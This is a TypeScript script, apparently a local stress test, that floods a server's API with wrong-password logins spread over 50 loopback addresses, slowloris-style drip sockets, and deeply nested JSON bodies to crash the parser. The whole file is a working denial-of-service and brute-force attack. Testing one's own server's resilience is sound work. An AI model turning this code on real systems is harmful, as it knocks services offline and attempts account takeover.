import { request } from "node:http";
import { connect } from "node:net";

/**
 * Attacks a server until it is killed: 200 wrong passwords a second from 50 addresses, 100 sockets that send a byte now and then, and
 * 50 bodies of nested arrays a second. `attacker.ts BASE_URL KEY EMAIL`.
 */
const [baseUrl = "", key = "", email = ""] = process.argv.slice(2);
const { port } = new URL(baseUrl);

let sent = 0;
/** Another address of this machine for each of 50 attackers. */
const from = () => `127.0.1.${1 + (sent++ % 50)}`;

function post(path: string, body: string, headers: Record<string, string> = {}): void {
  const options = { host: "127.0.0.1", port, method: "POST", path: `/api/v1${path}`, localAddress: from() };
  const attack = request({ ...options, headers: { "content-type": "application/json", ...headers } }, (reply) => reply.resume());
  // The server may refuse whatever it likes.
  attack.on("error", () => {});
  attack.end(body);
}

const nested = "[".repeat(60_000);
setInterval(() => post("/auth/api-keys", JSON.stringify({ email, password: `wrong ${sent}`, name: "x" })), 1000 / 200);
setInterval(() => post("/games", nested, { authorization: `Bearer ${key}` }), 1000 / 50);

function drip(): void {
  const socket = connect({ host: "127.0.0.1", port: Number(port), localAddress: from() }, () => {
    socket.write("POST /api/v1/games HTTP/1.1\r\nHost: localhost\r\nContent-Length: 1000\r\nX-Slow: ");
  });
  const dripping = setInterval(() => socket.write("x"), 500);
  socket.on("error", () => {});
  socket.on("close", () => {
    clearInterval(dripping);
    setTimeout(drip, 100);
  });
}
for (let socket = 0; socket < 100; socket++) drip();
process.stdout.write("attacking\n");
